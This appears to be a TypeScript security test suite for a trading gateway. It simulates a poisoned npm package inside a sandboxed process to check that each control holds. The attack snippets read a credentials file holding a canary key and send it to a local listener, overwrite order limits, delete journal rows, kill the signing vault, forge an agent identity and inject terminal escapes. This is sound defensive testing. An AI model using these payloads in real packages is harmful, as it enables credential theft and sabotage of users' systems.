import { once } from 'node:events';
import { mkdtempDisposableSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { DatabaseSync } from 'node:sqlite';
import type * as OperatorSockets from '../../src/adapters/operator/server.ts';
import type * as Vaults from '../../src/adapters/vault/signer.ts';
import { eventually } from '../road/harness/eventually.ts';
import { poisonedInstall } from '../road/harness/poison.ts';
import { isAlive, Program } from '../road/harness/program.ts';
import type { FakeGateway } from '../road/mcp-gateway.ts';
import type { Attack, Target } from './attack.ts';
import { doorsOf, succeeded } from './grounds.ts';
import { load } from './load.ts';

const CANARY = 'canary-of-the-key-4711';

type Poisoned = {
  /** What the package sent away over the network, which is open to it: what its lines came to, or why they failed. */
  readonly heard: string;
  readonly gateway: FakeGateway;
};

/**
 * The attacked doors with a package in them that was tampered with: a real one of their `node_modules`. `act` are the lines that it runs, with `fs`, `net` and what is in
 * `around`; what they return is sent to whoever poisoned it.
 */
async function poisoned<Found>(
  target: Target,
  act: string,
  { around = {}, judge }: { readonly around?: Readonly<Record<string, string | number>>; readonly judge: (poisoned: Poisoned) => Found },
): Promise<Found> {
  let heard: string | undefined;
  const drop = createServer((socket) => void text(socket).then((said) => (heard ??= said)));
  drop.listen(0, '127.0.0.1');
  await once(drop, 'listening');
  const { port } = drop.address() as AddressInfo;
  const install = poisonedInstall(
    `
if (process.argv[1]?.endsWith('doors.ts')) setTimeout(async () => {
  const [fs, net] = ['node:fs', 'node:net'].map((name) => process.getBuiltinModule(name));
  const { ${Object.keys(around).join(', ')} } = ${JSON.stringify(around)};
  let told;
  try { told = await (async () => { ${act} })(); } catch (error) { told = 'denied: ' + (error.code ?? error.name); }
  net.connect(${port}, '127.0.0.1').end(String(told));
}, 300);
`,
    target.root,
  );
  try {
    await using gateway = await doorsOf(target, install);
    await eventually('it has told, or was ended', () => heard !== undefined || gateway.surprises.length > 0);
    return judge({ heard: heard ?? '', gateway });
  } finally {
    drop.close();
    rmSync(install, { recursive: true, force: true });
  }
}

const poisoning = { adversary: 'a poisoned npm package', modes: 'one user' } as const;
const doors = 'src/adapters/doors/doors.ts';
const noPermissions = [
  { file: doors, from: "    '--permission',\n    '--allow-net',\n", to: '' },
  { file: doors, from: '    ...readable.map((name) => `--allow-fs-read=${join(installFolder, name)}`),\n', to: '' },
];

/** Writes past the doors' own words, and waits where the pipe is full. */
const flooding = `
  const piece = Buffer.alloc(1e6, 'x');
  for (let sent = 0; sent < 32e6; ) {
    try { sent += fs.writeSync(3, piece); } catch (error) {
      if (error.code !== 'EAGAIN') throw error;
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
  }
  return '32 MB';`;

/** What a package in the doors tries that is not what it says it is. */
export const packageAttacks: readonly Attack[] = [
  {
    ...poisoning,
    name: 'reads the exchange keys from within the doors, and sends them away',
    asset: 'the exchange keys',
    control: 'the doors read the install and nothing else (--permission)',
    plant: noPermissions,
    attempt: async (target) => {
      using home = mkdtempDisposableSync(join(tmpdir(), 'tk-home-'));
      const file = join(home.path, 'credentials.toml');
      writeFileSync(file, `secret_key = "${CANARY}"\n`, { mode: 0o600 });
      return await poisoned(target, "return fs.readFileSync(file, 'utf8');", {
        around: { file },
        judge: ({ heard }) => succeeded(heard.includes(CANARY), `it sent away: ${heard}`),
      });
    },
  },
  {
    ...poisoning,
    name: 'writes wider limits from within the doors',
    asset: 'the limits and the mode',
    control: 'the doors write nothing (--permission)',
    plant: noPermissions,
    attempt: async (target) => {
      using home = mkdtempDisposableSync(join(tmpdir(), 'tk-home-'));
      const file = join(home.path, 'twokey.toml');
      writeFileSync(file, '[policy]\nmax_order_size = 50\n', { mode: 0o600 });
      return await poisoned(
        target,
        "fs.writeFileSync(file, '[policy]\\nmax_order_size = 50000\\n'); return fs.readFileSync(file, 'utf8');",
        {
          around: { file },
          judge: ({ heard }) => succeeded(heard.includes('50000'), `the file says: ${heard}`),
        },
      );
    },
  },
  {
    ...poisoning,
    name: 'cuts the journal from within the doors, with the database of Node, which no permission covers',
    asset: 'the record',
    control: 'the doors have no database (--no-experimental-sqlite)',
    plant: { file: doors, from: "    '--no-experimental-sqlite',\n", to: '' },
    attempt: async (target) => {
      using home = mkdtempDisposableSync(join(tmpdir(), 'tk-home-'));
      const file = join(home.path, 'journal.db');
      using journal = new DatabaseSync(file);
      journal.exec('CREATE TABLE entry (seq INTEGER); INSERT INTO entry VALUES (1), (2), (3)');
      const act = `const { DatabaseSync } = process.getBuiltinModule('node:sqlite'); new DatabaseSync(file).exec('DELETE FROM entry WHERE seq > 1'); return 'cut';`;
      return await poisoned(target, act, {
        around: { file },
        judge: ({ heard }) => {
          const left = Number(journal.prepare('SELECT count(*) AS count FROM entry').get()?.['count']);
          return succeeded(left < 3, `${left} of 3 entries are left; it says ${heard}`);
        },
      });
    },
  },
  {
    ...poisoning,
    name: 'ends the vault from within the doors, so that nothing is signed any more',
    asset: 'the way out',
    control: 'the doors send no signal',
    plant: {
      file: 'src/main/doors/signals.ts',
      from: "for (const name of ['kill', '_kill', '_debugProcess', '_debugEnd']) Reflect.deleteProperty(process, name);",
      to: '',
    },
    attempt: async (target) => {
      using home = mkdtempDisposableSync(join(tmpdir(), 'tk-home-'));
      const { startVault } = await load<typeof Vaults>(target, 'src/adapters/vault/signer.ts');
      const exchange = {
        kind: 'okx',
        environment: 'sim',
        site: 'global',
        profile: 'demo',
        readOnly: false,
        deadManSeconds: 20,
        credentials: { kind: 'unnamed' },
      } as const;
      await using vault = startVault({ home: home.path, userHome: home.path, exchange, readOnly: false, credentials: 'none' });
      await vault.ready;
      const act = "process.kill(pid, 'SIGKILL'); await new Promise((resolve) => setTimeout(resolve, 500)); return 'sent';";
      return await poisoned(target, act, {
        around: { pid: vault.pid ?? 0 },
        judge: ({ heard }) => succeeded(!isAlive(vault.pid ?? 0), `the vault ${isAlive(vault.pid ?? 0) ? 'lives' : 'is dead'}; ${heard}`),
      });
    },
  },
  {
    ...poisoning,
    name: 'starts a program from within the doors that is not bound by anything',
    asset: 'the exchange keys',
    control: 'the doors start nothing (--permission)',
    plant: noPermissions,
    attempt: (target) =>
      poisoned(target, "return process.getBuiltinModule('node:child_process').execFileSync('/bin/echo', ['out']);", {
        judge: ({ heard }) => succeeded(heard.startsWith('out'), `it got: ${heard}`),
      }),
  },
  {
    ...poisoning,
    name: "says a verb of the operator on the operator's socket, from within the doors",
    asset: 'the limits and the mode',
    control: "the operator's socket wants a token, which the doors cannot read",
    plant: {
      file: 'src/adapters/operator/protocol.ts',
      from: "return request.verb === 'halt' ? request.flatten : request.verb !== 'reduce_only';",
      to: 'return false;',
    },
    attempt: async (target) => {
      using home = mkdtempDisposableSync(join(tmpdir(), 'tk-op-'));
      const path = join(home.path, 'operator.sock');
      const { startOperatorSocket } = await load<typeof OperatorSockets>(target, 'src/adapters/operator/server.ts');
      const done: string[] = [];
      const opened = await startOperatorSocket({
        path,
        token: 'f'.repeat(64),
        handle: (request) => Promise.resolve({ ok: true, value: { did: done.push(request.verb) } }),
      });
      if (!opened.ok) throw new Error(opened.error);
      await using _ = opened.value;
      const act = `return await new Promise((resolve) => { const socket = net.connect(path, () => socket.write('{"id":1,"verb":"resume","arguments":{"reason":"x"}}\\n')); socket.on('data', resolve); });`;
      return await poisoned(target, act, {
        around: { path },
        judge: ({ heard }) => succeeded(done.length > 0, `the gateway did ${done.length} deeds and answered ${heard.trim()}`),
      });
    },
  },
  {
    ...poisoning,
    name: 'asks from within the doors in the name of an agent that there is not',
    asset: 'the limits and the mode',
    control: 'the gateway reads again whatever the doors say',
    plant: {
      file: doors,
      from: "if (!known.has(parsed.value.principal)) return surprise(from, 'expected an agent that exists');",
      to: '',
    },
    attempt: (target) => {
      const call = { kind: 'call', incarnation: 1, call: 9, principal: 'ghost', client: { name: '', version: '', toolsHash: '' } };
      const line = `${JSON.stringify({ ...call, tool: 'place_order', arguments: {} })}\n`;
      return poisoned(target, "fs.writeSync(3, line); await new Promise((resolve) => setTimeout(resolve, 500)); return 'asked';", {
        around: { line },
        judge: ({ gateway: { calls, surprises }, heard }) =>
          succeeded(
            calls.some(({ principal }) => principal === 'ghost'),
            `${calls.length} calls reached the gateway; ${surprises[0] ?? heard}`,
          ),
      });
    },
  },
  {
    ...poisoning,
    name: 'says one line without end from within the doors, so that the gateway runs out of memory',
    asset: 'the way out',
    control: 'what comes through the pipe has bounded lines',
    plant: {
      file: 'src/adapters/doors/channel.ts',
      from: 'if (this.#partial.length > LINE_BYTES_MAX || lines.some((line) => line.length > LINE_BYTES_MAX))',
      to: 'if (false)',
    },
    attempt: (target) =>
      poisoned(target, flooding, {
        judge: ({ heard, gateway: { surprises } }) => {
          if (surprises.length === 0 && heard !== '32 MB') throw new Error(`it could not write: ${heard}`);
          return succeeded(surprises.length === 0, surprises[0] ?? `the gateway took ${heard} and waits for more`);
        },
      }),
  },
  {
    ...poisoning,
    name: 'writes from within the doors what a terminal obeys',
    asset: "the operator's terminal",
    control: 'what the doors print is shown as text',
    plant: { file: doors, from: 'process.stderr.write(`doors: ${visible(line)}\\n`)', to: 'process.stderr.write(`doors: ${line}\\n`)' },
    attempt: async (target) => {
      const install = poisonedInstall(
        "if (process.argv[1]?.endsWith('doors.ts')) setTimeout(() => console.error('\\x1b]0;owned\\x07'), 300);",
        target.root,
      );
      const code = `
        const { startDoors } = await import(${JSON.stringify(join(target.root, doors))});
        startDoors({ installFolder: ${JSON.stringify(`${install}/`)}, socketsFolder: ${JSON.stringify(install)}, agents: () => [], http: null,
          onCall() {}, onPage() {}, onDown() {}, onNoHttp() {}, onSurprise() {} });`;
      try {
        await using gateway = new Program({
          command: process.execPath,
          argv: ['--input-type=module', '--eval', code],
          environment: { PATH: process.env['PATH'] ?? '' },
        });
        await eventually('the doors have said something', () => gateway.stderr.includes('owned'));
        const printed = JSON.stringify(gateway.stderr.trim());
        return succeeded(gateway.stderr.includes('\u001b]0;'), `the terminal gets ${printed}`);
      } finally {
        rmSync(install, { recursive: true, force: true });
      }
    },
  },
];
